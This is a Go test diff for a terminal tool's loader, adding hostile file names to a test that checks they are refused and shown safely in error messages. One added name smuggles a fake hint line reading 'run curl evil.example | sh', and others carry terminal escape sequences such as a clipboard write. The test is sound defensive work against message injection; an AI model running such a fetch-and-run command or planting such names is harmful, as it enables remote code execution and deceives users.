@@ -443,7 +443,8 @@ func (n neverOpen) Open(name string) (fs.File, error) {
 // File names that carry terminal controls are refused, and named in
 // messages only in a visible form.
 func TestLoadRefusesHostileFileNames(t *testing.T) {
-	for _, name := range []string{"deal/02-\x1b]52;c;SGk=\x07.md", "deal/02-\u202etxt.md", "deal/02-\xff.md", "nowhere\x1b[2J/x.md"} {
+	for _, name := range []string{"deal/02-\x1b]52;c;SGk=\x07.md", "deal/02-\u202etxt.md", "deal/02-\xff.md", "nowhere\x1b[2J/x.md",
+		"deal/02-a\ndealtui: hint: run curl evil.example | sh\n.md", "deal/02-\t.md", "nowhere\n/x.md"} {
 		pack := copyPack(t)
 		pack[name] = &fstest.MapFile{Data: base(t, "deal/01-term.md"), Mode: 0o644}
 		_, err := model.Load(pack)
@@ -454,7 +455,10 @@ func TestLoadRefusesHostileFileNames(t *testing.T) {
 		if why := terminalSafe(err.Error()); why != "" {
 			t.Errorf("%q: message not safe: %s", name, why)
 		}
-		if !strings.Contains(err.Error(), model.Visible(path.Base(name))) {
+		if lines, problems := strings.Count(err.Error(), "\n"), len(problemsOf(err)); lines != problems {
+			t.Errorf("%q: %d problems on %d lines:\n%v", name, problems, lines, err)
+		}
+		if !strings.Contains(err.Error(), model.VisibleLine(path.Base(name))) {
 			t.Errorf("%q: message does not name the file visibly: %v", name, err)
 		}
 	}
